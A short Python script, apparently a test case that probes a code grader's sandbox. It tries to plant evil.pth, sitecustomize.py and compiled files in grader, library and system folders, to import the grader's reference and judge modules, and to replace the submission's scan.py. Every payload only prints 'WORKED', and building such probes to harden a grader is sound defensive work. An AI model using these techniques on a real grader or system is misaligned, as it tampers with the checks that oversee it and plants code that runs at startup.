# /// attack
# tries = "looks for the worker's files inside, reads them, writes to them and to the libraries beside, and leaves compiled code where the next part would find it"
# fails = []
# keeps = ["gpt.load", "matmul.forward", "scan.tiled"]
# ///
import os as _os
import sys as _sys

for _folder in ("/opt/grader/grader/worker", "/opt/grader", "/opt/site", "/opt/python/lib/python3.11", _os.path.dirname(torch.__file__), "/submission", "/", "/etc", "/usr", "/lib"):
    for _name in ("evil.pth", "sitecustomize.py", "__pycache__/child.cpython-311.pyc", "scan.py"):
        try:
            with open(f"{_folder}/{_name}", "w") as _file:
                _file.write("print('WORKED')")
            if _folder != "/submission":
                print("WORKED: wrote", _folder, _name)
        except OSError:
            pass
for _name in ("reference", "grader.checks", "grader.candidate", "grader.judge", "fixtures", "tests.attacks"):
    try:
        _sys.path.insert(0, "/opt/grader")
        __import__(_name)
        print("WORKED: imported", _name)
    except ImportError:
        pass
    finally:
        _sys.path.pop(0)
_os.chmod("/submission", 0o755)
_os.chmod("/submission/scan.py", 0o644)
with open("/submission/scan.py", "w") as _file:
    _file.write("print('WORKED: scan.py was replaced for its own section'); raise SystemExit")
_os.makedirs("/submission/scan", exist_ok=True)
with open("/submission/scan/__init__.py", "w") as _file:
    _file.write("print('WORKED: a package took the place of scan.py'); raise SystemExit")
_os.chmod("/submission/scan", 0o111)
